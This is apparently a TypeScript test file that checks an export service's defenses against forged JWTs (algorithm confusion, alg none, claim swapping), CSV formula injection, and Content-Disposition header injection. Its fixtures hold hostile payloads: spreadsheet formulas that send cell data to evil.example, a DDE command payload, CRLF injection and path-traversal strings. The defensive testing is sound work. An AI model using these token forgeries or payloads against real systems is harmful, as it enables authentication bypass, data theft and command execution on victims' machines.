/**
 * Hostile input (issue 7, items 12 and 13), over real HTTP through the functions server:
 * - JWT attacks beyond the auth matrix: a `service_role` claim that is not signed with the
 *   project's key is 401 on both functions; a valid user's (or anon) token cannot reach the
 *   worker function (403); only a correctly signed service-role token runs it.
 * - CSV formula injection: cells of user text beginning with `=`, `+`, `-`, `@`, tab or CR get a
 *   leading `'` when csvFormulaEscape is on, and are kept verbatim when it is off, in every column
 *   where user text appears (read back with a real CSV parser).
 * - Content-Disposition is always `attachment; filename="export-<export_id>.<ext>"`, whatever the
 *   title holds, for every format, by JWT and by signed link.
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { importJWK, type JWTPayload, SignJWT } from "jose";
import { exportsUrl, functionsBaseUrl } from "./support/api.ts";
import { createConversation, createUser, dbTest } from "./support/database.ts";
import { download, exportAndWait, type ExportLogBody } from "./support/exports.ts";
import { es256Token, unsignedToken, userToken } from "./support/tokens.ts";

const WRONG_SECRET = "not-the-project-secret-not-the-project-secret";

function workerUrl(): string {
  return `${functionsBaseUrl()}/functions/v1/export-worker`;
}

/** Claims of a Supabase service-role key: no user, role service_role. */
function serviceClaims(): JWTPayload {
  const now = Math.floor(Date.now() / 1000);
  return { iss: "supabase", role: "service_role", iat: now, exp: now + 3600 };
}

/** An HS256 service-role token, signed with the project's JWT secret unless told otherwise. */
async function serviceToken(
  secret = Deno.env.get("EXPORTS_JWT_SECRET") ?? "",
  claims: JWTPayload = {},
): Promise<string> {
  assert.ok(secret, "EXPORTS_JWT_SECRET is not set: run the tests with `npm test`");
  return await new SignJWT({ ...serviceClaims(), ...claims })
    .setProtectedHeader({ alg: "HS256", typ: "JWT" })
    .sign(new TextEncoder().encode(secret));
}

/** An ES256 service-role token from the test JWKS key (or from a key the JWKS does not hold). */
async function es256ServiceToken(foreignKey: boolean): Promise<string> {
  const jwk = JSON.parse(Deno.readTextFileSync(Deno.env.get("TEST_JWKS_PRIVATE_PATH") ?? ""));
  const key = foreignKey
    ? (await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, [
      "sign",
      "verify",
    ])).privateKey
    : await importJWK(jwk, "ES256");
  return await new SignJWT(serviceClaims()).setProtectedHeader({
    alg: "ES256",
    typ: "JWT",
    kid: jwk.kid,
  }).sign(key);
}

/** Algorithm confusion: HS256 "signed" with the public JWKS document as the HMAC secret. */
async function publicKeyAsHmacToken(): Promise<string> {
  return await serviceToken(Deno.env.get("SUPABASE_JWKS") ?? "{}");
}

/** `alg: none` with a service-role claim. */
function unsignedServiceToken(): string {
  const encode = (value: unknown) =>
    btoa(JSON.stringify(value)).replace(/=+$/, "").replace(/\+/g, "-").replace(/\//g, "_");
  return `${encode({ alg: "none", typ: "JWT" })}.${encode(serviceClaims())}.`;
}

/** A token whose claims were swapped for service_role after signing (the signature no longer fits). */
async function reclaimedToken(userId: string): Promise<string> {
  const [header, , signature] = (await userToken(userId)).split(".");
  const payload = btoa(JSON.stringify({ ...serviceClaims(), sub: userId })).replace(/=+$/, "")
    .replace(/\+/g, "-").replace(/\//g, "_");
  return `${header}.${payload}.${signature}`;
}

/** A function's JSON answer: an error body, or the worker's report. */
interface Answer {
  status: number;
  body:
    | { error?: { code?: unknown; message?: unknown }; completed?: number; duration_ms?: number }
    | null;
}

async function callWorker(authorization?: string): Promise<Answer> {
  const response = await fetch(workerUrl(), {
    method: "POST",
    headers: authorization === undefined ? {} : { Authorization: authorization },
  });
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : null };
}

async function callExports(authorization?: string): Promise<Answer> {
  const response = await fetch(exportsUrl(), {
    headers: authorization === undefined ? {} : { Authorization: authorization },
  });
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : null };
}

function assertError(
  response: Answer,
  status: number,
  code: string,
  what: string,
): void {
  assert.equal(response.status, status, `${what}: ${JSON.stringify(response.body)}`);
  assert.equal(response.body?.error?.code, code, what);
  assert.equal(typeof response.body?.error?.message, "string", what);
}

// --- item 12: JWT attacks -------------------------------------------------------------------

dbTest(
  "a service_role claim not signed with the project's key (or expired) is 401 on both functions",
  async () => {
    const userId = await createUser();
    const forged: [string, string][] = [
      ["HS256 with a wrong secret", await serviceToken(WRONG_SECRET)],
      [
        "HS256 with a wrong secret and a user's sub",
        await serviceToken(WRONG_SECRET, { sub: userId, aud: "authenticated" }),
      ],
      ["HS256 keyed with the public JWKS (algorithm confusion)", await publicKeyAsHmacToken()],
      ["ES256 from a key not in the JWKS", await es256ServiceToken(true)],
      ["alg none", unsignedServiceToken()],
      ["a user's token with its claims swapped for service_role", await reclaimedToken(userId)],
      [
        "expired, correctly signed",
        await serviceToken(undefined, { exp: Math.floor(Date.now() / 1000) - 600 }),
      ],
    ];
    for (const [name, token] of forged) {
      assertError(await callWorker(`Bearer ${token}`), 401, "unauthorized", `worker, ${name}`);
      assertError(await callExports(`Bearer ${token}`), 401, "unauthorized", `exports, ${name}`);
    }
  },
);

dbTest(
  "the worker function refuses a valid user's token and an anon token (403) and no token (401)",
  async () => {
    const userId = await createUser();
    const now = Math.floor(Date.now() / 1000);
    const anon = await new SignJWT({ iss: "supabase", role: "anon", iat: now, exp: now + 3600 })
      .setProtectedHeader({ alg: "HS256", typ: "JWT" })
      .sign(new TextEncoder().encode(Deno.env.get("EXPORTS_JWT_SECRET") ?? ""));
    // The same user token is good on the exports function: the refusal is about the role alone.
    const user = await userToken(userId);
    assert.equal((await callExports(`Bearer ${user}`)).status, 200);
    assertError(await callWorker(`Bearer ${user}`), 403, "forbidden", "HS256 user token");
    assertError(
      await callWorker(`Bearer ${await es256Token(userId)}`),
      403,
      "forbidden",
      "ES256 user token",
    );
    assertError(await callWorker(`Bearer ${anon}`), 403, "forbidden", "anon token");
    assertError(
      await callWorker(`Bearer ${await userToken(userId, { claims: { role: "anon" } })}`),
      403,
      "forbidden",
      "user token with role anon",
    );
    assertError(await callWorker(), 401, "unauthorized", "no token");
    assertError(await callWorker("Bearer "), 401, "unauthorized", "empty bearer");
    assertError(
      await callWorker(`Basic ${btoa("service_role:x")}`),
      401,
      "unauthorized",
      "basic auth",
    );
    assertError(
      await callWorker(`Bearer ${unsignedToken(userId)}`),
      401,
      "unauthorized",
      "alg none user token",
    );
    // A token in the query string is never read.
    const viaQuery = await fetch(
      `${workerUrl()}?access_token=${await serviceToken()}&apikey=${await serviceToken()}`,
      { method: "POST" },
    );
    assertError(
      { status: viaQuery.status, body: await viaQuery.json() },
      401,
      "unauthorized",
      "token in the query",
    );
  },
);

dbTest(
  "a correctly signed service-role token runs the worker (200 with completed and duration_ms)",
  async () => {
    const tokens = {
      "HS256": await serviceToken(),
      "ES256 from the JWKS": await es256ServiceToken(false),
    };
    for (const [name, token] of Object.entries(tokens)) {
      const response = await callWorker(`Bearer ${token}`);
      assert.equal(response.status, 200, `${name}: ${JSON.stringify(response.body)}`);
      const { completed, duration_ms } = response.body ?? {};
      assert.deepEqual(Object.keys(response.body ?? {}).sort(), ["completed", "duration_ms"], name);
      assert.ok(Number.isInteger(completed) && completed! >= 0, `${name}: completed ${completed}`);
      assert.ok(
        Number.isInteger(duration_ms) && duration_ms! >= 0,
        `${name}: duration_ms ${duration_ms}`,
      );
    }
    // The service role is no user: the exports API refuses it (role is checked before anything else).
    assertError(
      await callExports(`Bearer ${await serviceToken()}`),
      403,
      "forbidden",
      "service role on exports",
    );
  },
);

// --- item 13: CSV formula cells ---------------------------------------------------------------

const FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"];
// Cells that look close but do not begin with a formula character: never touched.
const SAFE_VALUES = [
  "a=b",
  " =leading space",
  "'already quoted",
  "＝fullwidth",
  "\n=after a newline",
  "plain",
];

interface Texts {
  title: string;
  persona: string;
  emotion: string;
  category: string[];
  content: string;
}

/** One conversation per formula prefix with that prefix in every user-text field, and safe ones. */
async function formulaFixture(): Promise<{ token: string; texts: Map<string, Texts> }> {
  const userId = await createUser();
  const texts = new Map<string, Texts>();
  const all = [
    ...FORMULA_PREFIXES.map((p) => ({
      title: `${p}HYPERLINK("http://evil.example/?q="&A1,"x")`,
      persona: `${p}cmd|' /C calc'!A0`,
      emotion: `${p}1+1`,
      category: [`${p}SUM(A1:A9)`, "second"],
      content: `${p}IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")`,
    })),
    ...SAFE_VALUES.map((v) => ({ title: v, persona: v, emotion: v, category: [v], content: v })),
  ];
  for (const [index, t] of all.entries()) {
    const id = await createConversation(userId, {
      title: t.title,
      persona: t.persona,
      emotion: t.emotion,
      category: t.category,
      quality_score: 5,
      created_at: new Date(Date.UTC(2026, 0, 1, 0, index)).toISOString(),
      turns: [
        { role: "user", content: t.content, token_count: 3 },
        { role: "assistant", content: t.content, token_count: 3 },
      ],
    });
    texts.set(id, t);
  }
  return { token: await userToken(userId), texts };
}

function escaped(value: string): string {
  return FORMULA_PREFIXES.some((p) => value.startsWith(p)) ? `'${value}` : value;
}

/** Downloads a csv export and parses it with a real CSV parser into records by column name. */
async function csvRecords(
  token: string,
  config: Record<string, unknown>,
): Promise<Record<string, string>[]> {
  const log = await exportAndWait(token, { format: "csv", config });
  assert.equal(log.status, "completed", JSON.stringify(log));
  const { response, bytes } = await download(log);
  assert.equal(response.status, 200);
  return parse(new TextDecoder().decode(bytes), { bom: true, columns: true, relax_quotes: false });
}

const SYSTEM_PROMPT = "=cmd|' /C calc'!A0 you are helpful";
const TEXT_COLUMNS = ["title", "content", "persona", "emotion", "category"];

function checkCsv(
  records: Record<string, string>[],
  texts: Map<string, Texts>,
  escape: boolean,
): void {
  const cell = (value: string) => (escape ? escaped(value) : value);
  assert.equal(records.length, texts.size * 3, "a system turn and two turns per conversation");
  for (const column of TEXT_COLUMNS) assert.ok(column in records[0], `column ${column}`);
  for (const record of records) {
    const t = texts.get(record.conversation_id);
    assert.ok(t, `unknown conversation ${record.conversation_id}`);
    const where = `${record.conversation_id} turn ${record.turn_number}`;
    assert.equal(record.title, cell(t.title), `title, ${where}`);
    assert.equal(record.persona, cell(t.persona), `persona, ${where}`);
    assert.equal(record.emotion, cell(t.emotion), `emotion, ${where}`);
    assert.equal(record.category, cell(t.category.join("; ")), `category, ${where}`);
    const content = record.turn_number === "0" ? SYSTEM_PROMPT : t.content;
    assert.equal(record.content, cell(content), `content, ${where}`);
    // Cells that hold no user text are never prefixed.
    for (const [column, value] of Object.entries(record)) {
      if (!TEXT_COLUMNS.includes(column)) {
        assert.ok(!value.startsWith("'"), `${column} = ${JSON.stringify(value)}`);
      }
    }
  }
  // Every prefix really occurs in the file, in every text column.
  for (const prefix of FORMULA_PREFIXES) {
    const expected = escape ? `'${prefix}` : prefix;
    for (const column of TEXT_COLUMNS) {
      assert.ok(
        records.some((r) => r[column].startsWith(expected)),
        `${column} starting with ${JSON.stringify(expected)}`,
      );
    }
  }
}

dbTest(
  "csv: formula cells in title, content, persona, emotion and category get a leading ' by default",
  async () => {
    const { token, texts } = await formulaFixture();
    checkCsv(await csvRecords(token, { systemPrompt: SYSTEM_PROMPT }), texts, true);
    checkCsv(
      await csvRecords(token, { systemPrompt: SYSTEM_PROMPT, csvFormulaEscape: true }),
      texts,
      true,
    );
  },
);

dbTest("csv: formula cells are kept verbatim when csvFormulaEscape is false", async () => {
  const { token, texts } = await formulaFixture();
  checkCsv(
    await csvRecords(token, { systemPrompt: SYSTEM_PROMPT, csvFormulaEscape: false }),
    texts,
    false,
  );
});

// --- item 13: Content-Disposition -------------------------------------------------------------

const EVIL_TITLES = [
  'quote " and "; filename="../../etc/passwd',
  "new\r\nline\r\nX-Injected: 1\r\n\r\nbody",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32\\evil.bat",
  "%2e%2e%2fencoded; filename*=UTF-8''evil.sh",
  "ünïcødé 😀 name?*:<>|.exe",
];

dbTest(
  'Content-Disposition is exactly attachment; filename="export-<id>.<ext>" for every format, by JWT and signed link',
  async () => {
    const userId = await createUser();
    for (const [index, title] of EVIL_TITLES.entries()) {
      await createConversation(userId, {
        title,
        persona: title,
        created_at: new Date(Date.UTC(2026, 0, 1, index)).toISOString(),
      });
    }
    const token = await userToken(userId);
    for (
      const [format, ext] of [["json", "json"], ["jsonl", "jsonl"], ["csv", "csv"], [
        "markdown",
        "md",
      ]]
    ) {
      const log: ExportLogBody = await exportAndWait(token, {
        format,
        config: { systemPrompt: EVIL_TITLES[0] },
      });
      assert.equal(log.status, "completed", JSON.stringify(log));
      const expected = `attachment; filename="export-${log.export_id}.${ext}"`;
      const byLink = await download(log);
      const byJwt = await download({ ...log, file_url: exportsUrl(`/${log.export_id}/download`) }, {
        headers: { Authorization: `Bearer ${token}` },
      });
      const ranged = await download(log, { headers: { Range: "bytes=0-9" } });
      for (
        const [how, { response }] of [["signed link", byLink], ["JWT", byJwt], [
          "range",
          ranged,
        ]] as const
      ) {
        assert.equal(response.status, how === "range" ? 206 : 200, `${format} by ${how}`);
        // Headers.get joins repeated headers with ", ": a second Content-Disposition would show.
        assert.equal(response.headers.get("content-disposition"), expected, `${format} by ${how}`);
        assert.equal(response.headers.get("x-injected"), null, `${format} by ${how}`);
      }
      // The title really is in the file: the header ignored it, the content did not lose it.
      assert.ok(new TextDecoder().decode(byLink.bytes).includes("etc/passwd"), format);
    }
  },
);
